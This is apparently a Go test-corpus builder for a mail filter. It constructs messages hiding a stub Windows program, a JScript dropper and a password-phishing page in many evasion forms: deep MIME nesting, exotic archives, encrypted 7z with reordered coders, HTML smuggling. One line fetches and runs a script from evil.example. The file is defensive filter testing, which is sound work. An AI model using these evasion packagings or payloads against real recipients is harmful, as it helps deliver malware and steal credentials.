// Package mailcorpus builds the attacker's corpus of issue 23: one message
// per way of packaging a program (or a phishing page) that a mail client
// or an archiver opens, and the ordinary mail that must still be
// delivered. Everything is built in code: no binary is committed.
package mailcorpus

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/aes"
	"crypto/cipher"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"mime/quotedprintable"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"github.com/kdomanski/iso9660"
	"github.com/ulikunitz/xz"
	"github.com/ulikunitz/xz/lzma"
)

// Case is one message of the corpus.
type Case struct {
	Name string // short, unique
	Form string // what the attacker did, for the report's table
	Msg  []byte
	// Block: the shipped rules with the example config must refuse or hold
	// it; otherwise it must be delivered.
	Block bool
}

// PE is a minimal Windows program: MZ header, e_lfanew at 0x3C, the PE
// signature and a COFF header, as YARA's uint32(uint32(0x3C)) == 0x4550
// and every PE parser expect. It is not runnable, which a scanner cannot
// know without running it.
func PE() []byte {
	b := make([]byte, 1024)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3C:], 0x80)
	copy(b[0x4E:], "This program cannot be run in DOS mode.\r\r\n$")
	copy(b[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(b[0x84:], 0x14c) // i386
	binary.LittleEndian.PutUint16(b[0x86:], 1)     // one section
	for i := 0x200; i < len(b); i++ {
		b[i] = byte(i * 7)
	}
	return b
}

// Phish is a password-phishing page posting off-site.
const Phish = `<!DOCTYPE html><html><head><title>Mailbox quota</title></head><body>
<p>Your mailbox is full. Sign in to keep your mail.</p>
<form method="post" action="https://collect.evil.example/p.php">
<input type="text" name="u"><input type="password" name="p"><input type="submit">
</form></body></html>
`

// Script is a JScript dropper: no magic, only its name says what it is.
const Script = "var s = new ActiveXObject('WScript.Shell');\r\ns.Run('powershell -enc AAAA');\r\n"

const hdr = "From: <alice@customer.test>\r\nTo: <bob@remote.test>\r\nSubject: %s\r\nMessage-ID: <%s@customer.test>\r\nDate: Mon, 30 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\n"

// Message is a whole message: the envelope-ish header and an entity (its
// own header lines, a blank line, its body).
func Message(subject, entity string) []byte {
	id := strings.NewReplacer(" ", "-", "/", "-").Replace(subject)
	return []byte(fmt.Sprintf(hdr, subject, id) + entity)
}

// B64 is RFC 2045 base64, 76 characters a line.
func B64(b []byte) string {
	s := base64.StdEncoding.EncodeToString(b)
	var o strings.Builder
	for len(s) > 0 {
		n := min(76, len(s))
		o.WriteString(s[:n] + "\r\n")
		s = s[n:]
	}
	return o.String()
}

// Leaf is an entity with the given header lines and body.
func Leaf(headers, body string) string {
	return strings.TrimRight(headers, "\r\n") + "\r\n\r\n" + body
}

// Attach is a base64 attachment.
func Attach(ctype, name string, data []byte) string {
	return Leaf(fmt.Sprintf("Content-Type: %s; name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64", ctype, name, name), B64(data))
}

// Multipart is a multipart/mixed entity of parts.
func Multipart(boundary string, parts ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=\"%s\"\r\n\r\nThis is a MIME message.\r\n", boundary)
	for _, p := range parts {
		fmt.Fprintf(&b, "--%s\r\n%s\r\n", boundary, strings.TrimRight(p, "\r\n"))
	}
	fmt.Fprintf(&b, "--%s--\r\n", boundary)
	return b.String()
}

const text = "Content-Type: text/plain; charset=utf-8\r\n\r\nPlease see the attached report.\r\n"

// Member is a zip member.
type Member struct {
	Name   string
	Data   []byte
	Method uint16 // zip.Store, zip.Deflate, or 12 (bzip2) / 14 (LZMA): see Zip
}

// Zip builds a zip. Members with method 12 or 14 are compressed here
// (bzip2 by the bzip2 program, LZMA by ulikunitz/xz/lzma in the layout of
// APPNOTE 5.8.8: version, properties size, properties, raw stream).
func Zip(members ...Member) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range members {
		fh := &zip.FileHeader{Name: m.Name, Method: m.Method}
		switch m.Method {
		case 12, 14:
			fh.CRC32 = crc32.ChecksumIEEE(m.Data)
			fh.UncompressedSize64 = uint64(len(m.Data))
			comp := compress(m.Method, m.Data)
			fh.CompressedSize64 = uint64(len(comp))
			if m.Method == 14 {
				fh.Flags |= 2 // EOS marker present
			}
			w, err := zw.CreateRaw(fh)
			must(err)
			w.Write(comp)
		default:
			w, err := zw.CreateHeader(fh)
			must(err)
			w.Write(m.Data)
		}
	}
	must(zw.Close())
	return buf.Bytes()
}

func compress(method uint16, data []byte) []byte {
	if method == 12 {
		return Bzip2(data)
	}
	var raw bytes.Buffer
	w, err := lzma.WriterConfig{EOSMarker: true, Size: -1}.NewWriter(&raw)
	must(err)
	w.Write(data)
	must(w.Close())
	// The .lzma header: properties (1), dictionary size (4), size (8).
	b := raw.Bytes()
	out := []byte{0x10, 0x02, 5, 0}
	out = append(out, b[:5]...)
	return append(out, b[13:]...)
}

// Bzip2 compresses with the bzip2 program (Go's library only decodes).
func Bzip2(data []byte) []byte {
	cmd := exec.Command("bzip2", "-c")
	cmd.Stdin = bytes.NewReader(data)
	out, err := cmd.Output()
	must(err)
	return out
}

// Gzip is a gzip file of data named name.
func Gzip(name string, data []byte) []byte {
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	zw.Name = name
	zw.Write(data)
	zw.Close()
	return b.Bytes()
}

// XZ is an xz file of data.
func XZ(data []byte) []byte {
	var b bytes.Buffer
	w, err := xz.NewWriter(&b)
	must(err)
	w.Write(data)
	must(w.Close())
	return b.Bytes()
}

// SevenZipEncrypted is SevenZip with a password, its names encrypted too
// (-mhe) or not.
func SevenZipEncrypted(name string, data []byte, headers bool) []byte {
	args := []string{"-pinvoice2026"}
	if headers {
		args = append(args, "-mhe=on")
	}
	return SevenZip(name, data, args...)
}

// SevenZip builds a 7z archive with the 7z program (p7zip-full), switches
// (such as -m0=copy) added to its command line.
func SevenZip(name string, data []byte, switches ...string) []byte {
	dir, err := os.MkdirTemp("", "corpus7z")
	must(err)
	defer os.RemoveAll(dir)
	must(os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
	must(os.WriteFile(filepath.Join(dir, name), data, 0o644))
	cmd := exec.Command("7z", append(append([]string{"a", "-bd", "-y"}, switches...), "a.7z", name)...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		panic(fmt.Sprintf("7z: %v: %s", err, out))
	}
	b, err := os.ReadFile(filepath.Join(dir, "a.7z"))
	must(err)
	return b
}

// ISO builds an ISO 9660 image holding data as name.
func ISO(name string, data []byte) []byte {
	w, err := iso9660.NewWriter()
	must(err)
	defer w.Cleanup()
	must(w.AddFile(bytes.NewReader(data), name))
	var b bytes.Buffer
	must(w.WriteTo(&b, "INVOICE"))
	return b.Bytes()
}

// RAR is a RAR 4 archive holding data as name, stored (method 0x30), in
// the layout of RARLAB's technote: marker block, archive header, file
// header, data, end block; each header's CRC is the low 16 bits of the
// CRC-32 of the header from its type byte. (No program here writes RAR.)
func RAR(name string, data []byte) []byte { return rar4(name, data, 0) }

// RAREncrypted is RAR with the file header's "encrypted with password"
// flag (0x04) set and data encrypted (AES-CTR under a fixed key, standing
// for RAR's own key derivation): a RAR 4 archive encrypted without -hp,
// whose names are readable.
func RAREncrypted(name string, data []byte) []byte {
	block, err := aes.NewCipher(make([]byte, 16))
	must(err)
	ct := make([]byte, len(data))
	cipher.NewCTR(block, make([]byte, 16)).XORKeyStream(ct, data)
	return rar4(name, ct, 0x04)
}

func rar4(name string, data []byte, fileFlags uint16) []byte {
	block := func(typ byte, flags uint16, rest []byte) []byte {
		h := []byte{typ, byte(flags), byte(flags >> 8), 0, 0}
		binary.LittleEndian.PutUint16(h[3:], uint16(2+len(h)+len(rest)))
		h = append(h, rest...)
		crc := uint16(crc32.ChecksumIEEE(h))
		return append([]byte{byte(crc), byte(crc >> 8)}, h...)
	}
	out := []byte("Rar!\x1a\x07\x00")
	out = append(out, block(0x73, 0, make([]byte, 6))...)
	fh := make([]byte, 25)
	binary.LittleEndian.PutUint32(fh[0:], uint32(len(data))) // packed size
	binary.LittleEndian.PutUint32(fh[4:], uint32(len(data))) // unpacked size
	fh[8] = 2                                                // Windows
	binary.LittleEndian.PutUint32(fh[9:], crc32.ChecksumIEEE(data))
	binary.LittleEndian.PutUint32(fh[13:], 0x5b7e0000) // a DOS date
	fh[17], fh[18] = 20, 0x30                          // version 2.0, stored
	binary.LittleEndian.PutUint16(fh[19:], uint16(len(name)))
	binary.LittleEndian.PutUint32(fh[21:], 0x20) // archive attribute
	out = append(out, block(0x74, 0x8000|fileFlags, append(fh, name...))...)
	out = append(out, data...)
	return append(out, block(0x7b, 0x4000, nil)...)
}

// CAB is the start of a Microsoft Cabinet holding a program: its header
// names the format; no well-kept Go library opens it.
func CAB(data []byte) []byte {
	b := make([]byte, 36, 36+len(data))
	copy(b, "MSCF")
	binary.LittleEndian.PutUint32(b[8:], uint32(36+len(data)))
	b[24], b[25] = 3, 1 // version 1.3
	binary.LittleEndian.PutUint16(b[26:], 1)
	binary.LittleEndian.PutUint16(b[28:], 1)
	return append(b, data...)
}

// UUEncode is a uuencoded block (begin MODE NAME ... end).
func UUEncode(name string, data []byte) string {
	var b strings.Builder
	fmt.Fprintf(&b, "begin 644 %s\r\n", name)
	enc := func(c byte) byte {
		if c == 0 {
			return '`'
		}
		return c + 32
	}
	for i := 0; i < len(data); i += 45 {
		line := data[i:min(i+45, len(data))]
		b.WriteByte(enc(byte(len(line))))
		for j := 0; j < len(line); j += 3 {
			var g [3]byte
			copy(g[:], line[j:])
			b.WriteByte(enc(g[0] >> 2))
			b.WriteByte(enc((g[0]<<4 | g[1]>>4) & 63))
			b.WriteByte(enc((g[1]<<2 | g[2]>>6) & 63))
			b.WriteByte(enc(g[2] & 63))
		}
		b.WriteString("\r\n")
	}
	b.WriteString("`\r\nend\r\n")
	return b.String()
}

// YEnc is a yEnc block (=ybegin ... =yend), as Usenet clients write it.
func YEnc(name string, data []byte) string {
	var b strings.Builder
	fmt.Fprintf(&b, "=ybegin line=128 size=%d name=%s\r\n", len(data), name)
	col := 0
	for _, c := range data {
		o := c + 42
		if o == 0 || o == '\n' || o == '\r' || o == '=' || (col == 0 && (o == '.' || o == ' ' || o == '\t')) {
			b.WriteByte('=')
			o += 64
			col++
		}
		b.WriteByte(o)
		col++
		if col >= 128 {
			b.WriteString("\r\n")
			col = 0
		}
	}
	fmt.Fprintf(&b, "\r\n=yend size=%d crc32=%08x\r\n", len(data), crc32.ChecksumIEEE(data))
	return b.String()
}

func must(err error) {
	if err != nil {
		panic(err)
	}
}

// nest wraps entity in n multipart levels.
func nest(n int, entity string) string {
	for i := n; i > 0; i-- {
		entity = Multipart(fmt.Sprintf("lvl%02d", i), text, entity)
	}
	return entity
}

// Hostile is the attacker's corpus: each message must be refused or held.
func Hostile() []Case {
	pe := PE()
	exe := Attach("application/octet-stream", "report.exe", pe)
	var c []Case
	add := func(name, form, entity string) {
		c = append(c, Case{Name: name, Form: form, Msg: Message(name, entity), Block: true})
	}
	add("plain-exe", "report.exe attached (the baseline)", Multipart("b", text, exe))
	add("nested-12", "report.exe nested 12 MIME levels deep", nest(12, exe))
	var many []string
	for i := range 1000 {
		many = append(many, fmt.Sprintf("Content-Type: text/plain\r\n\r\nline %d\r\n", i))
	}
	add("part-1001", "report.exe as part 1001", Multipart("b", append(many, exe)...))
	var members []Member
	for i := range 1000 {
		members = append(members, Member{Name: fmt.Sprintf("doc%04d.txt", i), Data: []byte("minutes\n")})
	}
	add("zip-member-1001", "report.exe as zip member 1001", Multipart("b", text, Attach("application/zip", "docs.zip", Zip(append(members, Member{Name: "report.exe", Data: pe, Method: zip.Deflate})...))))
	z := Zip(Member{Name: "report.exe", Data: pe, Method: zip.Deflate})
	for i := 0; i < 10; i++ {
		z = Zip(Member{Name: fmt.Sprintf("level%02d.zip", i), Data: z, Method: zip.Deflate})
	}
	add("zip-nested-11", "report.exe in a zip nested 11 deep", Multipart("b", text, Attach("application/zip", "archive.zip", z)))
	add("zip-junk-prefix", "report.exe in a zip with 4 junk bytes before it (self-extractor style)",
		Multipart("b", text, Attach("application/zip", "archive.zip", append([]byte("JUNK"), Zip(Member{Name: "report.exe", Data: pe, Method: zip.Deflate})...))))
	add("zip-bzip2", "report.exe as a bzip2-compressed zip member (method 12)", Multipart("b", text, Attach("application/zip", "archive.zip", Zip(Member{Name: "report.exe", Data: pe, Method: 12}))))
	add("zip-lzma", "report.exe as an LZMA-compressed zip member (method 14)", Multipart("b", text, Attach("application/zip", "archive.zip", Zip(Member{Name: "report.exe", Data: pe, Method: 14}))))
	add("after-unknown-cte", "report.exe after a part with an unknown Content-Transfer-Encoding",
		Multipart("b", text, Leaf("Content-Type: text/plain\r\nContent-Transfer-Encoding: x-unknown", "odd\r\n"), exe))
	add("inline-no-name", "the program attached inline, without a file name",
		Multipart("b", text, Leaf("Content-Type: application/octet-stream\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64", B64(pe))))
	add("uuencode-in-text", "report.exe uuencoded in a text body",
		Leaf("Content-Type: text/plain", "Here it is:\r\n\r\n"+UUEncode("report.exe", pe)))
	fwd := string(Message("forwarded", Multipart("f", text, exe)))
	add("eml-in-zip", "report.exe inside a .eml inside a zip",
		Multipart("b", text, Attach("application/zip", "mail.zip", Zip(Member{Name: "forward.eml", Data: []byte(fwd), Method: zip.Deflate}))))
	add("phish-nested-12", "HTML password-phishing page nested 12 deep",
		nest(12, Attach("text/html", "login.html", []byte(Phish))))
	// Others found while writing these.
	add("rfc2231-latin1-js", "script whose name is an RFC 2231 ISO-8859-1 continuation (r\\xe9port.js)",
		Multipart("b", text, Leaf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*0*=iso-8859-1''r%E9port; filename*1=\".js\"\r\nContent-Transfer-Encoding: base64", B64([]byte(Script)))))
	add("duplicate-cte", "two Content-Transfer-Encoding headers (7bit, then base64)",
		Multipart("b", text, Leaf("Content-Type: application/octet-stream; name=\"report.exe\"\r\nContent-Disposition: attachment; filename=\"report.exe\"\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64", B64(pe))))
	add("rfc822-base64", "report.exe in an attached message/rfc822 sent base64",
		Multipart("b", text, Leaf("Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64", B64([]byte(fwd)))))
	add("latin1-text-charset", "the program declared text/plain; charset=iso-8859-1 (a decoder converting the charset mangles it)",
		Multipart("b", text, Leaf("Content-Type: text/plain; charset=iso-8859-1\r\nContent-Disposition: attachment; filename=\"report.txt\"\r\nContent-Transfer-Encoding: base64", B64(pe))))
	add("gzip-single", "report.exe.gz", Multipart("b", text, Attach("application/gzip", "report.exe.gz", Gzip("report.exe", pe))))
	add("bzip2-single", "report.exe.bz2", Multipart("b", text, Attach("application/x-bzip2", "report.exe.bz2", Bzip2(pe))))
	add("xz-single", "report.exe.xz", Multipart("b", text, Attach("application/x-xz", "report.exe.xz", XZ(pe))))
	add("7z", "report.exe in a 7z archive", Multipart("b", text, Attach("application/x-7z-compressed", "archive.7z", SevenZip("report.exe", pe))))
	add("7z-encrypted", "a program named invoice.pdf in a password-protected 7z", Multipart("b", text, Attach("application/x-7z-compressed", "invoice.7z", SevenZipEncrypted("invoice.pdf", pe, false))))
	add("7z-encrypted-names", "a password-protected 7z with encrypted names (-mhe)", Multipart("b", text, Attach("application/x-7z-compressed", "invoice.7z", SevenZipEncrypted("invoice.pdf", pe, true))))
	add("7z-encrypted-stored", "a program named invoice.pdf in a password-protected 7z, stored (-m0=copy: no decompressor to fail on the wrong key)",
		Multipart("b", text, Attach("application/x-7z-compressed", "invoice.7z", SevenZip("invoice.pdf", pe, "-pinvoice2026", "-m0=copy"))))
	add("7z-encrypted-aes-last", "a program named invoice.pdf in a password-protected 7z listing its coders LZMA2 before 7zAES (7-Zip extracts it)",
		Multipart("b", text, Attach("application/x-7z-compressed", "invoice.7z", SevenZipAESLast("invoice.pdf", pe))))
	add("zip-deflate64", "a program named invoice.pdf in a zip deflated with Deflate64 (method 9: 7-Zip and Explorer extract it)",
		Multipart("b", text, Attach("application/zip", "invoice.zip", SevenZip("invoice.pdf", pe, "-tzip", "-mm=Deflate64"))))
	add("rar-encrypted", "a program named invoice.pdf in a RAR whose member is encrypted, names not (rar -p)",
		Multipart("b", text, Attach("application/vnd.rar", "invoice.rar", RAREncrypted("invoice.pdf", pe))))
	add("rar", "report.exe in a RAR archive", Multipart("b", text, Attach("application/vnd.rar", "archive.rar", RAR("report.exe", pe))))
	add("iso", "report.exe in an ISO 9660 image", Multipart("b", text, Attach("application/octet-stream", "invoice.img", ISO("report.exe", pe))))
	add("cab", "a program in a Cabinet file", Multipart("b", text, Attach("application/vnd.ms-cab-compressed", "setup.cab", CAB(pe))))
	add("yenc-in-text", "report.exe yEnc-encoded in a text body", Leaf("Content-Type: text/plain", "Here:\r\n"+YEnc("report.exe", pe)))
	add("exe-as-inline-image", "the program as an inline image/png with no name",
		Multipart("b", Leaf("Content-Type: text/html", "<p>hi<img src=\"cid:x\"></p>\r\n"), Leaf("Content-Type: image/png\r\nContent-ID: <x>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64", B64(pe))))
	add("script-shebang-nested-12", "a shell script (shebang) named notes.txt, nested 12 deep",
		nest(12, Attach("text/plain", "notes.txt", []byte("#!/bin/sh\ncurl -s http://evil.example/x | sh\n"))))
	add("js-nested-12", "a .js script nested 12 deep", nest(12, Attach("application/octet-stream", "invoice.js", []byte(Script))))
	add("js-part-1001", "a .js script as part 1001", Multipart("b", append(many, Attach("application/octet-stream", "invoice.js", []byte(Script)))...))
	add("gzip-nested-12", "report.exe.gz nested 12 deep", nest(12, Attach("application/gzip", "report.exe.gz", Gzip("report.exe", pe))))
	add("js-zip-member-1001", "a .js as zip member 1001", Multipart("b", text, Attach("application/zip", "docs.zip", Zip(append(members, Member{Name: "invoice.js", Data: []byte(Script), Method: zip.Deflate})...))))
	add("exe-as-rfc822", "the program declared message/rfc822 (7bit), which no message parser reads",
		Multipart("b", text, Leaf("Content-Type: message/rfc822", string(pe[:64])+"\r\n"+B64(pe))))
	add("b64-junk-chars", "base64 with characters outside the alphabet, which clients skip",
		Multipart("b", text, Leaf("Content-Type: application/octet-stream; name=\"report.pdf\"\r\nContent-Transfer-Encoding: base64", "!"+strings.Replace(B64(pe), "AAAA", "AA*AA", 3))))
	add("phish-qp-nested-12", "HTML password-phishing page in quoted-printable, nested 12 deep",
		nest(12, Leaf("Content-Type: text/html; name=\"login.html\"\r\nContent-Disposition: attachment; filename=\"login.html\"\r\nContent-Transfer-Encoding: quoted-printable", QP(Phish))))
	half := B64(pe)[:len(B64(pe))/2]
	add("message-partial", "report.exe split over message/partial fragments (RFC 2046 5.2.2), fragment 1",
		Leaf("Content-Type: message/partial; id=\"frag@customer.test\"; number=1; total=2",
			"Content-Type: application/octet-stream; name=\"report.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+half))
	add("tnef", "a program in a TNEF winmail.dat (Outlook opens it)", Multipart("b", text, Attach("application/ms-tnef", "winmail.dat", append([]byte{0x78, 0x9f, 0x3e, 0x22, 0x01, 0x00}, pe...))))
	add("html-smuggling", "report.exe as a data: URI in an HTML attachment (HTML smuggling)",
		Multipart("b", text, Attach("text/html", "invoice.html", []byte("<html><body><a download=\"report.exe\" href=\"data:application/octet-stream;base64,"+base64.StdEncoding.EncodeToString(pe)+"\">Download</a></body></html>"))))
	return c
}

// QP is quoted-printable text.
func QP(s string) string {
	var b strings.Builder
	w := quotedprintable.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

// PNG is a small valid PNG header with distinct content.
func PNG(i int) []byte {
	b := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00")
	return append(b, bytes.Repeat([]byte{byte(i)}, 200)...)
}

// PDF is a small PDF.
func PDF() []byte {
	return []byte("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
}

// Docx is an Office Open XML document without macros.
func Docx() []byte {
	return Zip(
		Member{Name: "[Content_Types].xml", Data: []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`), Method: zip.Deflate},
		Member{Name: "_rels/.rels", Data: []byte(`<?xml version="1.0"?><Relationships/>`), Method: zip.Deflate},
		Member{Name: "word/document.xml", Data: []byte(`<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>Minutes</w:t></w:r></w:p></w:body></w:document>`), Method: zip.Deflate},
	)
}

// Ordinary is mail that must be delivered as before.
func Ordinary() []Case {
	var c []Case
	add := func(name, form, entity string) {
		c = append(c, Case{Name: name, Form: form, Msg: Message(name, entity)})
	}
	add("text", "plain text", text)
	html := "<html><body><h1>News</h1>"
	parts := []string{}
	for i := range 40 {
		html += fmt.Sprintf("<img src=\"cid:img%d@news\">", i)
		parts = append(parts, Leaf(fmt.Sprintf("Content-Type: image/png\r\nContent-ID: <img%d@news>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64", i), B64(PNG(i))))
	}
	html += "</body></html>\r\n"
	related := "Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html
	for _, p := range parts {
		related += "--rel\r\n" + p
	}
	related += "--rel--\r\n"
	add("newsletter", "HTML newsletter with 40 inline images", related)
	add("pdf", "a PDF attached", Multipart("b", text, Attach("application/pdf", "invoice.pdf", PDF())))
	add("docx", "an Office document without macros", Multipart("b", text, Attach("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "minutes.docx", Docx())))
	add("zip-of-docs", "a zip of documents", Multipart("b", text, Attach("application/zip", "docs.zip", Zip(Member{Name: "a.pdf", Data: PDF(), Method: zip.Deflate}, Member{Name: "b.docx", Data: Docx(), Method: zip.Deflate}))))
	inner := Multipart("f0", text, Attach("application/pdf", "invoice.pdf", PDF()))
	for i := 1; i <= 3; i++ {
		inner = Multipart(fmt.Sprintf("f%d", i), text, Leaf("Content-Type: message/rfc822", string(Message(fmt.Sprintf("Fwd %d", i), inner))))
	}
	add("forwarded-3", "forwarded mail 3 levels deep with a PDF", inner)
	add("pdf-nested-12", "a PDF nested 12 deep (past the limit, nothing risky: delivered, stamped not fully checked)", nest(12, Attach("application/pdf", "invoice.pdf", PDF())))
	xls := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 1016)...)
	add("xls", "an old Excel workbook (OLE2) without macros", Multipart("b", text, Attach("application/vnd.ms-excel", "budget.xls", xls)))
	add("invite", "a calendar invitation", Multipart("b", text, Leaf("Content-Type: text/calendar; method=REQUEST; charset=utf-8", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")))
	add("smime-signed", "an S/MIME signed message",
		Leaf("Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=\"s\"",
			"--s\r\n"+text+"--s\r\n"+Leaf("Content-Type: application/pkcs7-signature; name=\"smime.p7s\"\r\nContent-Disposition: attachment; filename=\"smime.p7s\"\r\nContent-Transfer-Encoding: base64", B64(bytes.Repeat([]byte{0x30, 0x82, 0x05, 0x11}, 100)))+"--s--\r\n"))
	add("html-data-image", "an HTML mail with an inline data: image",
		Leaf("Content-Type: text/html; charset=utf-8", "<html><body><img src=\"data:image/png;base64,"+base64.StdEncoding.EncodeToString(PNG(1))+"\"></body></html>\r\n"))
	return c
}

// ExampleSection is a section of etc/milterd.example.yaml as shipped,
// with its "#| " enabled and the given keys replaced (e.g. rules' dir by
// the repository's rules/): the example config's defaults, as an operator
// who enables the section gets them.
func ExampleSection(example, section string, set map[string]string) (string, error) {
	data, err := os.ReadFile(example)
	if err != nil {
		return "", err
	}
	var out []string
	in := false
	for _, l := range strings.Split(string(data), "\n") {
		if l == "#| "+section+":" {
			in = true
		} else if in && !strings.HasPrefix(l, "#| ") {
			break
		}
		if !in {
			continue
		}
		l = strings.TrimPrefix(l, "#| ")
		for k, v := range set {
			if t := strings.TrimLeft(l, " "); strings.HasPrefix(t, k+":") {
				l = l[:len(l)-len(t)] + k + ": " + v
			}
		}
		out = append(out, l)
	}
	if len(out) == 0 {
		return "", fmt.Errorf("%s: no section %q", example, section)
	}
	return strings.Join(out, "\n") + "\n", nil
}

// SevenZipAESLast is a 7z holding data as name, encrypted (LZMA2, then
// 7zAES with the password invoice2026, names readable) as 7z writes it,
// then with its folder's coders listed [LZMA2, 7zAES] instead of
// [7zAES, LZMA2], the bind pair (LZMA2's input from 7zAES's output) and
// unpack sizes to match: 7-Zip extracts it, github.com/bodgit/sevenzip
// builds coders in list order and fails before meeting the cipher. The
// header is written plain (-mhc=off) to be rewritten.
func SevenZipAESLast(name string, data []byte) []byte {
	b := SevenZip(name, data, "-pinvoice2026", "-mhc=off", "-m0=lzma2")
	off, size := binary.LittleEndian.Uint64(b[12:]), binary.LittleEndian.Uint64(b[20:])
	h := b[32+off : 32+off+size]
	i := bytes.Index(h, []byte{0x24, 0x06, 0xf1, 0x07, 0x01}) // props, 4-byte id 7zAES
	if i < 1 || h[i-1] != 2 {
		panic("7z: no folder of two coders, 7zAES first")
	}
	aes := bytes.Clone(h[i : i+6+int(h[i+5])])
	j := i + len(aes)
	lz := bytes.Clone(h[j : j+4]) // 0x21 (props, 1-byte id) 0x21 (LZMA2), 1 byte of props
	if lz[0] != 0x21 || lz[1] != 0x21 || !bytes.Equal(h[j+4:j+7], []byte{1, 0, 0x0c}) {
		panic(fmt.Sprintf("7z: unexpected folder % x", h[i:j+8]))
	}
	k := j + 7 // CodersUnpackSize: 7zAES's output, then LZMA2's
	na := sevenZipNumberLen(h[k])
	nl := sevenZipNumberLen(h[k+na])
	var out []byte
	out = append(out, lz...)
	out = append(out, aes...)
	out = append(out, 0, 1, 0x0c) // bind pair: in 0 (LZMA2) from out 1 (7zAES)
	out = append(out, h[k+na:k+na+nl]...)
	out = append(out, h[k:k+na]...)
	copy(h[i:], out)
	binary.LittleEndian.PutUint32(b[28:], crc32.ChecksumIEEE(h))
	binary.LittleEndian.PutUint32(b[8:], crc32.ChecksumIEEE(b[12:32]))
	return b
}

// sevenZipNumberLen is the length of the 7z number (7zFormat.txt,
// UINT64) whose first byte is c: one more byte for each leading 1 bit.
func sevenZipNumberLen(c byte) int {
	n := 1
	for m := byte(0x80); m != 0 && c&m != 0; m >>= 1 {
		n++
	}
	return min(n, 9)
}
